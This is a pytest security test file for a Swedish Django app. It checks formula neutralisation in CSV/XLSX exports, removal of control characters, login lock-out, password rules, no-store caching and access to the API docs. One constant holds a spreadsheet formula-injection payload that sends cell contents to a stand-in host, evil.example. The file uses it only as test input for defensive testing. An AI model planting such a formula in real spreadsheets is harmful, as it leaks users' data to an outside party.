"""Exports that cannot be turned against their reader, input without control characters,
lock-out on the user name, password rules, no-store caching and the API description."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from trygg.core import exports, services
from trygg.core.models import Place
from trygg.core.personas import DEMO_PASSWORD

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


# ---------------------------------------------------------------------------
# Exports
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_like_a_formula_is_neutralised(start):
    assert exports.neutralise(start + "SUM(A1)") == "'" + start + "SUM(A1)"


@pytest.mark.parametrize("text", ["-5", "+46", "12", "Älta", "-1,5"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert exports.neutralise(text) == text


def _place_with(world, **fields) -> Place:
    return services.place_update(
        actor=world.users["samordnare"], place=world.places["Nacka Forum"], **fields
    )


def test_an_xlsx_export_holds_formulas_as_text(world, login):
    _place_with(world, name=FORMULA)
    export = login("samordnare").get(reverse("core:place_list"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    text = [c for c in cells if "HYPERLINK" in str(c.value)]
    assert text, [c.value for c in cells]
    assert all(c.data_type == "s" and str(c.value).startswith("'=") for c in text)


def test_a_csv_export_neutralises_a_leading_tab_and_carriage_return(world, login):
    _place_with(world, name="\tNacka Forum")
    export = login("samordnare").get(reverse("core:place_list"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert [cell for row in rows for cell in row if "Nacka Forum" in cell] == ["'\tNacka Forum"]


def test_a_control_character_in_a_stored_row_does_not_break_an_xlsx_export(world, login):
    _place_with(world, name="Bytes\x0bpunkt")
    client = login("samordnare")
    export = client.get(reverse("core:place_list"), {"format": "xlsx"})
    assert export.status_code == 200
    values = [
        v for row in load_workbook(io.BytesIO(export.content)).active.values for v in row if v
    ]
    assert "Bytespunkt" in values


def test_the_audit_log_exports_a_row_with_a_control_character(world, login):
    _place_with(world, description="Bytes\x0bpunkt")
    export = login("admin").get(reverse("core:audit_log"), {"format": "xlsx"})
    assert export.status_code == 200
    text = " ".join(
        str(v) for row in load_workbook(io.BytesIO(export.content)).active.values for v in row
    )
    assert "Bytespunkt" in text and "\x0b" not in text


def test_a_large_csv_export_is_streamed(world, login, monkeypatch):
    monkeypatch.setattr(exports, "STREAM_FROM_ROWS", 3)
    export = login("samordnare").get(reverse("core:place_list"), {"format": "csv"})
    assert export.streaming
    text = b"".join(export.streaming_content).decode("utf-8-sig")
    assert (
        len(text.strip().splitlines())
        == 1 + Place.objects.filter(organisation=world.organisations["nacka"]).count()
    )


def test_exports_are_limited_per_user(world, login, settings):
    settings.EXPORTS_PER_MINUTE = 2
    client = login("samordnare")
    url = reverse("core:place_list")
    assert [client.get(url, {"format": "csv"}).status_code for _ in range(3)] == [200, 200, 429]
    assert login("arbetsgrupp").get(url, {"format": "csv"}).status_code == 200


# ---------------------------------------------------------------------------
# Input is cleaned of control characters at the boundary
# ---------------------------------------------------------------------------


def test_a_form_drops_control_characters(world, login):
    response = login("samordnare").post(
        reverse("core:place_create"),
        {
            "organisation": world.organisations["nacka"].pk,
            "area": world.areas["Boo"].pk,
            "name": "Orminge\x0b torg",
            "description": "rad ett\r\nrad\x07 två",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    place = Place.objects.get(name="Orminge torg")
    assert place.description == "rad ett\r\nrad två"


def test_the_api_drops_control_characters(world, client):
    _token, key = services.api_token_create(actor=world.users["samordnare"], name="t")
    response = client.post(
        "/api/places",
        {
            "organisation_id": world.organisations["nacka"].pk,
            "area_id": world.areas["Boo"].pk,
            "name": "Orminge\x0b bussterminal",
        },
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )
    assert response.status_code == 201, response.content
    assert Place.objects.filter(name="Orminge bussterminal").exists()


# ---------------------------------------------------------------------------
# Authentication
# ---------------------------------------------------------------------------


def _fail(client, username: str, address: str) -> None:
    client.post("/logga-in/", {"username": username, "password": "fel"}, REMOTE_ADDR=address)


def test_a_locked_user_name_stays_locked_from_another_address(world, client):
    for n in range(5):
        _fail(client, "samordnare", f"10.0.0.{n + 1}")
    response = client.post(
        "/logga-in/",
        {"username": "samordnare", "password": DEMO_PASSWORD},
        REMOTE_ADDR="10.0.9.9",
    )
    assert response.status_code == 429


def test_one_address_is_locked_after_many_failures_for_many_names(world, client, settings):
    settings.LOGIN_FAILURE_LIMIT_PER_ADDRESS = 8
    for n in range(8):
        _fail(client, f"gissning{n}", "10.0.0.7")
    response = client.post(
        "/logga-in/",
        {"username": "arbetsgrupp", "password": DEMO_PASSWORD},
        REMOTE_ADDR="10.0.0.7",
    )
    assert response.status_code == 429
    other = client.post(
        "/logga-in/",
        {"username": "arbetsgrupp", "password": DEMO_PASSWORD},
        REMOTE_ADDR="10.0.0.8",
    )
    assert other.status_code == 302


@pytest.mark.parametrize("password", ["123456789012", "aaaaaaaaaaaa", "trygg-aaaa-2026"])
def test_weak_passwords_are_refused(password):
    with pytest.raises(ValidationError):
        validate_password(password)


def test_a_good_password_passes():
    validate_password("trygg-demo-2026-vår")


def test_logged_in_pages_and_exports_are_not_cached(world, login):
    c = login("samordnare")
    assert c.get(reverse("core:place_list"))["Cache-Control"] == "no-store"
    assert c.get(reverse("core:place_list"), {"format": "csv"})["Cache-Control"] == "no-store"
    assert c.get(reverse("plans:plan_list"))["Cache-Control"] == "no-store"


# ---------------------------------------------------------------------------
# The API description
# ---------------------------------------------------------------------------


def test_the_api_description_needs_a_login(world, client, login):
    assert client.get("/api/openapi.json").status_code == 302
    assert client.get("/api/docs").status_code == 302
    assert login("polis").get("/api/openapi.json").status_code == 200


def test_a_setting_publishes_the_api_description(world, client, settings):
    settings.API_DOCS_PUBLIC = True
    assert client.get("/api/openapi.json").status_code == 200
